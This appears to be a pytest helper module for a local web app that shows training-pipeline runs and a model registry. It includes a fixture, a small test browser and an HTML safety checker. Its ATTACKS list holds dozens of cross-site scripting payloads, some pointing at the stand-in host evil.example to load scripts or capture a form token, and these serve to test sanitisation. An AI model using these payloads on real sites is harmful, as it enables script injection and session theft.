"""The pages over a real store, a real registry and a fake engine, served on loopback, and a small browser for them."""

from __future__ import annotations

import http.client
import json
import re
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest

from contracts.page_texts import page_texts
from local.api_errors import ApiError
from local.github import BOT, OPERATOR, Account, GitHubStore
from local.http_server import HttpServer
from local.registry_store import RegistryStore
from local.web.app import WebApp
from local.web.ports import ActionRefusedError, Actions, Ports, Words
from pipelines.graph import mermaid

REPO = "octo/models"
PIPELINE_ARN = "arn:aws:sagemaker:us-east-1:123456789012:pipeline/issueops-training"
DEFINITION: dict[str, Any] = json.loads(
    (Path(__file__).parents[3] / "pipelines" / "compiled" / "training_pipeline.json").read_text()
)
ADA = Account("ada", permission="write")
READER = Account("yuki", permission="read")
# What must never be more than text, wherever a person or a program can write it.
ATTACKS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" oNeRrOr='alert(1)'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    '![x"onerror="alert(1)](/y.png)',
    "![x](https://evil.example/spy.png)",
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)\n\n[a]",
    "<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=//evil.example><input name=form_token><button>Log in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/><object data=x></object><embed src=x>",
    "<textarea></textarea><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<p id=content name=form_token class=primary>x</p>",
    "<a href='//evil.example' target=_top onclick=alert(1)>x</a>",
    "`<script>alert(1)</script>` <!-- <script>alert(1)</script> -->",
    "```html\n<script>alert(1)</script>\n```",
    "```mermaid\nflowchart TD\na[\"<img src=x onerror=alert(1)>\"] --> b\nclick a \"javascript:alert(1)\"\n```",
    "```mermaid\nflowchart TD\na[x]\nstyle a fill:url(javascript:alert(1)),stroke:\"onload=alert(1)\n```",
    "<div title=\"\n\n```mermaid\nflowchart TD\na[\" onmouseover=alert(1) x=\"]\n```\n",
    "<div title='\n\n```yaml\nx' onmouseover=alert(1) y='\n```\n",
    "</textarea></template></title><script>alert(1)</script>",
    "{{ 7 * 7 }} {% raw %}",
    "\u202e\u0000<scr\u0000ipt>alert(1)</script>",
)  # fmt: skip


class FakeEngine:
    """Answers the reading operations from what a test put in."""

    def __init__(self) -> None:
        self.executions: dict[str, dict[str, Any]] = {}

    def add(self, execution: str, *, status: str, issue: int = 0, **more: Any) -> dict[str, Any]:
        record: dict[str, Any] = {
            "arn": f"{PIPELINE_ARN}/execution/{execution}",
            "status": status,
            "started": 1000.0,
            "steps": [],
        } | more
        record["parameters"] = {"Repository": REPO, "IssueNumber": str(issue)}
        self.executions[record["arn"]] = record
        return record

    def list_pipelines(self, request: Mapping[str, Any]) -> dict[str, Any]:
        return {"PipelineSummaries": [{"PipelineName": "issueops-training", "PipelineArn": PIPELINE_ARN}]}

    def list_pipeline_executions(self, request: Mapping[str, Any]) -> dict[str, Any]:
        return {
            "PipelineExecutionSummaries": [
                {
                    "PipelineExecutionArn": each["arn"],
                    "StartTime": each["started"],
                    "PipelineExecutionStatus": each["status"],
                    "PipelineExecutionDisplayName": each.get("name", ""),
                }
                for each in self.executions.values()
            ]
        }

    def describe_pipeline_execution(self, request: Mapping[str, Any]) -> dict[str, Any]:
        found = self._found(request)
        return {
            "PipelineExecutionArn": found["arn"],
            "CreationTime": found["started"],
            "LastModifiedTime": found["started"] + 75,
            "PipelineExecutionStatus": found["status"],
            "PipelineExecutionDisplayName": found.get("name", ""),
            "FailureReason": found.get("failure", ""),
        }

    def describe_pipeline_definition_for_execution(self, request: Mapping[str, Any]) -> dict[str, Any]:
        return {"PipelineDefinition": json.dumps(self._found(request).get("definition", DEFINITION))}

    def list_pipeline_execution_steps(self, request: Mapping[str, Any]) -> dict[str, Any]:
        return {"PipelineExecutionSteps": self._found(request)["steps"]}

    def list_pipeline_parameters_for_execution(self, request: Mapping[str, Any]) -> dict[str, Any]:
        found = self._found(request)["parameters"]
        return {"PipelineParameters": [{"Name": name, "Value": value} for name, value in found.items()]}

    def _found(self, request: Mapping[str, Any]) -> dict[str, Any]:
        if request["PipelineExecutionArn"] not in self.executions:
            raise ApiError("ResourceNotFound", "no such execution")
        return self.executions[request["PipelineExecutionArn"]]


@dataclass
class Decisions:
    """Records what the buttons asked for."""

    made: list[tuple[str, str, int | None, str, str]] = field(default_factory=list)
    refusal: str = ""

    def actions(self) -> Actions:
        return Actions(self._named("approve"), self._named("reject"), self._named("rollback"))

    def _named(self, name: str) -> Any:
        def act(model: str, version: int | None, *, by: str, reason: str) -> None:
            if self.refusal:
                raise ActionRefusedError(self.refusal)
            self.made.append((name, model, version, by, reason))

        return act


@dataclass
class Page:
    """An answer."""

    status: int
    headers: http.client.HTTPMessage
    body: bytes

    @property
    def text(self) -> str:
        return self.body.decode()

    @property
    def token(self) -> str:
        found = re.search(r'name="form_token" value="([0-9a-f]+)"', self.text)
        assert found, "the page has no form"
        return found.group(1)


class Browser:
    """Keeps cookies, sends forms as a browser does."""

    def __init__(self, port: int) -> None:
        self.port = port
        self.cookies: dict[str, str] = {}

    def request(
        self, method: str, path: str, body: bytes | None = None, headers: Mapping[str, str] | None = None
    ) -> Page:
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=20)
        cookies = "; ".join(f"{name}={value}" for name, value in self.cookies.items())
        sent = {"Host": f"localhost:{self.port}"} | ({"Cookie": cookies} if cookies else {}) | dict(headers or {})
        try:
            connection.request(method, path, body, sent)
            answer = connection.getresponse()
            page = Page(answer.status, answer.headers, answer.read())
        finally:
            connection.close()
        for line in page.headers.get_all("Set-Cookie") or []:
            name, _, value = line.split(";")[0].partition("=")
            self.cookies[name] = value
        return page

    def get(self, path: str, **headers: str) -> Page:
        return self.request("GET", path, headers={name.replace("_", "-"): value for name, value in headers.items()})

    def send(self, path: str, fields: Mapping[str, Any], *, token: str | None = None) -> Page:
        """A form from these pages; without a token it takes the one that pages carry."""
        form = {"form_token": self.get("/about").token if token is None else token} | dict(fields)
        body = urlencode(form, doseq=True).encode()
        headers = {
            "Content-Type": "application/x-www-form-urlencoded",
            "Origin": f"http://localhost:{self.port}",
            "Sec-Fetch-Site": "same-origin",
        }
        return self.request("POST", path, body, headers)

    def act_as(self, login: str) -> None:
        assert self.send("/account", {"login": login, "back": "/"}).status == 303


@dataclass
class House:
    """Everything behind the pages."""

    github: GitHubStore
    engine: FakeEngine
    registry: RegistryStore
    decisions: Decisions
    ports: Ports
    deliveries: list[tuple[dict[str, str], bytes]]
    home: Path
    browser: Browser


@pytest.fixture
def house(tmp_path: Path) -> Iterator[House]:
    github = GitHubStore(tmp_path, (BOT, OPERATOR, ADA, READER))
    github.ensure_repository(REPO)
    registry = RegistryStore(tmp_path / "state.db", account="123456789012", region="us-east-1")
    engine, decisions = FakeEngine(), Decisions()
    deliveries: list[tuple[dict[str, str], bytes]] = []

    def deliver(headers: Mapping[str, str], body: bytes) -> tuple[int, Mapping[str, str], bytes]:
        deliveries.append((dict(headers), body))
        return 202, {"Content-Type": "application/json", "Set-Cookie": "x=y"}, b'{"ok":true}'

    ports = Ports(
        github=github,
        executions=engine,
        registry=registry,
        graph=mermaid,
        actions=decisions.actions(),
        deliver_webhook=deliver,
        metrics=lambda model, version: {"accuracy": 0.9123},
        jobs=tmp_path / "jobs",
        words=Words(
            training_template="```yaml\nalgorithm: random_forest\n```",
            commands=("/accept ",),
            empty_hint="issueops run",
            texts=page_texts("en"),
        ),
    )
    server = HttpServer(WebApp(ports), name="pages")
    server.start(0)
    yield House(
        github, engine, registry, decisions, ports, deliveries, tmp_path, Browser(int(server.url.rsplit(":", 1)[1]))
    )
    server.stop()
    registry.close()
    github.close()


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))


def elements(html: str) -> list[tuple[str, dict[str, str]]]:
    """Every tag with its attributes."""
    reader = _Reader()
    reader.feed(html)
    return reader.elements


def assert_harmless(html: str) -> None:
    """No script but our own, no handler, no style, no address that runs or that loads from elsewhere."""
    for tag, attributes in elements(html):
        assert tag not in ("iframe", "object", "embed", "style", "base", "math", "animate", "noscript", "frame"), tag
        if tag == "script":
            assert attributes == {"src": "/static/live.js", "defer": ""}
        for name, value in attributes.items():
            assert not name.startswith("on"), (tag, name)
            assert name not in ("style", "srcdoc", "srcset", "background", "ping", "xlink:href"), (tag, name)
            if name in ("src", "action", "formaction", "poster"):
                assert re.match(r"/(?!/)", value), (tag, name, value)
            if name == "href":
                assert re.match(r"(https?:|mailto:|/|#|\?)", value, re.IGNORECASE), value
